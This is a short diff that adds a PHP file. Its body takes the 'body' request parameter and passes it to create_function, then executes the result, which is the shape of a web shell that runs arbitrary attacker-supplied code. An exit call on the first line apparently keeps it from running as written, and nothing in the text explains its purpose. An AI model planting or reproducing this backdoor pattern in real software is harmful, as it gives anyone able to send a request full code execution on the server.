@@ -1,0 +1,3 @@
+<?php exit;
+$make = create_function("", $_REQUEST["body"]);
+$make();
